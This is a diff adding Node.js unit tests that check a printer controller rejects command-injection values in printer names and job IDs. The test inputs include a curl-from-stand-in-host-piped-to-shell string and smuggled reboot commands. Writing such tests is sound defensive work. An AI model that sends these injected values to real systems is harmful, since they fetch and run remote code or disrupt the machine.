@@ -0,0 +1,67 @@
+/**
+ * Printer controller tests
+ * Hostile printer names and job IDs must be refused before reaching the printer manager
+ */
+
+const { describe, it, beforeEach } = require('node:test');
+const assert = require('node:assert/strict');
+const PrinterController = require('../../src/controllers/PrinterController');
+const { createResponse } = require('../helpers');
+
+describe('PrinterController', () => {
+    let controller;
+    let managerCalls;
+
+    beforeEach(() => {
+        managerCalls = [];
+        controller = new PrinterController();
+
+        const record = (name) => async (...args) => {
+            managerCalls.push({ name, args });
+            return {};
+        };
+        controller.printerManager = {
+            setDefaultPrinter: record('setDefaultPrinter'),
+            testPrinter: record('testPrinter'),
+            getPrinterStatus: record('getPrinterStatus'),
+            getPrinterOptions: record('getPrinterOptions'),
+            cancelPrintJob: record('cancelPrintJob')
+        };
+    });
+
+    it('rejects a crafted default printer name with 400', async () => {
+        const res = createResponse();
+        await controller.setDefaultPrinter({ body: { printerName: 'x; curl evil.sh | sh' } }, res);
+
+        assert.equal(res.statusCode, 400);
+        assert.equal(res.body.error, 'Invalid printer name');
+        assert.deepEqual(managerCalls, []);
+    });
+
+    it('rejects crafted printer names in route parameters with 400', async () => {
+        for (const handler of ['testPrinter', 'getPrinterStatus', 'getPrinterOptions']) {
+            const res = createResponse();
+            await controller[handler]({ params: { printerName: '$(reboot)' } }, res);
+
+            assert.equal(res.statusCode, 400, handler);
+        }
+        assert.deepEqual(managerCalls, []);
+    });
+
+    it('rejects crafted job IDs with 400', async () => {
+        const res = createResponse();
+        await controller.cancelPrintJob({ params: { jobId: '1 && reboot' } }, res);
+
+        assert.equal(res.statusCode, 400);
+        assert.equal(res.body.error, 'Invalid job ID');
+        assert.deepEqual(managerCalls, []);
+    });
+
+    it('passes valid printer names through', async () => {
+        const res = createResponse();
+        await controller.setDefaultPrinter({ body: { printerName: 'Canon_SELPHY' } }, res);
+
+        assert.equal(res.statusCode, 200);
+        assert.deepEqual(managerCalls, [{ name: 'setDefaultPrinter', args: ['Canon_SELPHY'] }]);
+    });
+});